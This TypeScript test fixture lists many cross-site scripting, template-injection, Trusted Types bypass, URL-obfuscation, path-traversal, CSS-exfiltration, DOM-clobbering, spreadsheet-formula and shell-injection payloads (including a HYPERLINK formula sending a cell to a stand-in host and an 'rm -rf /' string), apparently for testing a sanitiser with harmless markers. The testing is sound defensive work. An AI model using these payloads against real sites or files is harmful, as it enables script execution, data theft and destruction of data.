/** Texts in markup that run a script where they are taken for it. `window.pwned` tells. */
const HTML = [
  '<script>window.pwned=1</script>',
  '</script><script>window.pwned=1</script>',
  '<SCRIPT>window.pwned=1</SCRIPT >',
  '<script src=https://tracker.invalid/a.js></script>',
  '<script type=module>window.pwned=1</script>',
  '<script\n>window.pwned=1</script\n>',
  '"><img src=x onerror=window.pwned=1>',
  "'><img src=x onerror='window.pwned=1'>",
  '<img src=x onerror=window.pwned=1//',
  '<IMG SRC=x ONERROR="window.pwned=1">',
  '<img/src=`x`onerror=window.pwned=1>',
  '<img src=x\tonerror\n=\fwindow.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="javascript:parent.pwned=1"></iframe>',
  '<object data="javascript:window.pwned=1"></object>',
  '<embed src="https://tracker.invalid/a.swf">',
  '<body onload=window.pwned=1>',
  '<details open ontoggle=window.pwned=1>',
  '<input autofocus onfocus=window.pwned=1>',
  '<select autofocus onfocus=window.pwned=1><option>x</select>',
  '<video><source onerror=window.pwned=1></video>',
  '<audio src=x onerror=window.pwned=1>',
  '<marquee onstart=window.pwned=1>x</marquee>',
  '<dialog open onclose=window.pwned=1><form method=dialog><button autofocus>x</button></form></dialog>',
  '<div onpointerenter=window.pwned=1 class=card>x</div>',
  '<a href="javascript:window.pwned=1" autofocus onfocus=this.click()>x</a>',
  '<form action=https://tracker.invalid><button autofocus onfocus=window.pwned=1>',
  '<isindex action=javascript:window.pwned=1 type=submit>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<textarea></textarea><img src=x onerror=window.pwned=1></textarea>',
  '<title></title><img src=x onerror=window.pwned=1></title>',
  '<xmp><img src="</xmp><img src=x onerror=window.pwned=1>">',
  '<plaintext><img src=x onerror=window.pwned=1>',
];

/** Texts in SVG and MathML, and such as change when a browser reads what it wrote itself. */
const FOREIGN = [
  "'><svg/onload=window.pwned=1>",
  '<svg><script>window.pwned=1</script></svg>',
  '<svg><script href="data:text/javascript,window.pwned=1"/></svg>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:window.pwned=1 /><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=window.pwned=1 /></svg>#x"/>',
  '<svg><foreignObject><img src=x onerror=window.pwned=1></foreignObject></svg>',
  '<svg><style><img src="</style><img src=x onerror=window.pwned=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
  '<math><mi//xlink:href="data:x,<script>window.pwned=1</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.pwned=1>">',
  '<math><annotation-xml encoding=text/html><img src=x onerror=window.pwned=1></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>',
  '<!--<img src="--><img src=x onerror=window.pwned=1>-->',
  '<!--!><img src=x onerror=window.pwned=1>-->',
  '<![CDATA[<img src=x onerror=window.pwned=1>]]>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">window.pwned=1</script>',
  '<listing>&lt;img src=x onerror=window.pwned=1&gt;</listing>',
];

/** Templates of libraries, and what gets round Trusted Types where a page makes markup itself. */
const TEMPLATES = [
  '<template><script>window.pwned=1</script></template>',
  '<template shadowrootmode=open><img src=x onerror=window.pwned=1></template>',
  '{{constructor.constructor("window.pwned=1")()}}',
  ['$', '{window.pwned=1}'].join(''),
  ['<%= (window.pwned=1) %>', '#{window.pwned=1}', '[[window.pwned=1]]'].join(' '),
  '<x-y is="a" ref="b" dangerouslySetInnerHTML="{__html: window.pwned=1}">',
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"window.pwned=1"}},"ref":null,"key":null}',
  '<script>trustedTypes.createPolicy("hexapla-data",{createHTML:(x)=>x});window.pwned=1</script>',
  '<script>trustedTypes.createPolicy("default",{createHTML:(x)=>x,createScript:(x)=>x});window.pwned=1</script>',
];

/** Addresses, with schemes in odd case and with characters in them that browsers leave out. */
const ADDRESSES = [
  'javascript:window.pwned=1',
  'JaVaScRiPt:window.pwned=1',
  'java\tscript:window.pwned=1',
  'java\nscript:window.pwned=1',
  '\u0001javascript:window.pwned=1',
  ' \u00a0javascript:window.pwned=1',
  'javascript://tracker.invalid/%0awindow.pwned=1',
  'vbscript:window.pwned=1',
  'data:text/html,<script>parent.pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==',
  'blob:https://tracker.invalid/1',
  '//tracker.invalid/a',
  String.raw`\\tracker.invalid\a`,
  'https:tracker.invalid',
  'http://tracker.invalid#/documents',
  'file:///etc/passwd',
  '../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '#/doc/fr-FR/../../x?show=stale',
  '?show=stale&q=<script>window.pwned=1</script>',
  '[x](javascript:window.pwned=1)',
  '![x](https://tracker.invalid/p.png)',
  '<https://tracker.invalid/?q=`id`>',
];

/** What makes a page ask somebody for something, or move on by itself. */
const REQUESTS = [
  '<img src="https://tracker.invalid/pixel.gif">',
  '<img srcset="https://tracker.invalid/a.png 2x">',
  '<link rel=stylesheet href=https://tracker.invalid/a.css>',
  '<link rel=prefetch href=https://tracker.invalid/a>',
  '<link rel=dns-prefetch href=//tracker.invalid>',
  '<meta http-equiv=refresh content="0;url=https://tracker.invalid">',
  '<base href=https://tracker.invalid/>',
  '<a ping=https://tracker.invalid href=#/>x</a>',
  '<portal src=https://tracker.invalid>',
];

/** Styles. */
const STYLES = [
  '<style>@import "https://tracker.invalid/a.css";</style>',
  '<div style="background:url(https://tracker.invalid/a)">x</div>',
  '1px;background:url(https://tracker.invalid/a)',
  '}*{background:url(https://tracker.invalid/a)}',
  'expression(window.pwned=1)',
  'red;}</style><script>window.pwned=1</script>',
  '--x:url("https://tracker.invalid/a");--tone',
];

/** Names that hide those of a page or of objects. */
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '<form id=app><input name=parentNode></form>',
  '<a id=hexapla href=javascript:window.pwned=1></a><a id=hexapla name=x></a>',
  '<img name=getElementById><img name=documentElement>',
  '<a id=trustedTypes><a id=trustedTypes name=createPolicy>',
];

/** Characters that are not seen, turn the order round, or are no characters. */
const INVISIBLE = [
  '\u202e<script>window.pwned=1</script>\u0000',
  'a\u202egnp.exe',
  '\u2066\u2067\u2068x\u2069\u2069\u2069',
  '\u200b\u200c\u200d\u2060\ufeff',
  '\u2028window.pwned=1//',
  '\u2029window.pwned=1//',
  '\u0000\u0001\u0007\u001b[31mred\u001b[0m',
  '\ud800 half a pair \udfff',
  '\ufffe\uffff\u{10ffff}',
  `z${'\u0301'.repeat(300)}`,
  '\u{e0041}\u{e0042} tags \u{fe0f}',
  '＜script＞window.pwned=1＜/script＞',
  'ﷺ'.repeat(200),
];

/** The ends of scripts and of data in them, and texts that were escaped once. */
const ENDS = [
  '"});window.pwned=1;//',
  "'});window.pwned=1;//",
  String.raw`\"});window.pwned=1;//`,
  String.raw`\u003cimg src=x onerror=window.pwned=1\u003e`,
  String.raw`\x3cscript\x3ewindow.pwned=1\x3c/script\x3e`,
  '&lt;img src=x onerror=window.pwned=1&gt;',
  '&#60;img src=x onerror=window.pwned=1&#62;',
  '&quot; onfocus=window.pwned=1 x=&quot;',
  '<!--<script>',
  '*/window.pwned=1/*',
  '`+(window.pwned=1)+`',
  ']]>',
];

/** Formulas of spreadsheets, and commands of shells. */
const CELLS = [
  '=HYPERLINK("https://tracker.invalid?"&A1,"x")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '"\r\n=1+1,"',
  "'; rm -rf / #",
  '$(touch /tmp/pwned)',
  '`touch /tmp/pwned` && true',
  '| tee ~/.profile',
  '--locale=x',
];

const LONG = ['A'.repeat(20_000), '<b>'.repeat(2_000), '"><'.repeat(3_000), 'a/'.repeat(500), '🔥'.repeat(3_000)];

/**
 * Texts that run a script, ask somebody for something or break a page wherever they are taken for more than texts. What runs sets
 * `window.pwned` to 1; what asks, asks `tracker.invalid`.
 */
export const PAYLOADS: readonly string[] = [
  ...HTML,
  ...FOREIGN,
  ...TEMPLATES,
  ...ADDRESSES,
  ...REQUESTS,
  ...STYLES,
  ...NAMES,
  ...INVISIBLE,
  ...ENDS,
  ...CELLS,
  ...LONG,
];

/** Each payload behind a name for its test: its number, and its beginning. */
export const NAMED_PAYLOADS: readonly (readonly [name: string, payload: string])[] = PAYLOADS.map((payload, at) => [
  `${at} ${JSON.stringify(payload.slice(0, 60))}`,
  payload,
]);

/** A payload that tells by `mark` which of its copies ran or asked. */
export function marked(payload: string, mark: number): string {
  return payload.replaceAll('pwned=1', `pwned=${mark}`).replaceAll('tracker.invalid', `mark-${mark}.invalid`);
}
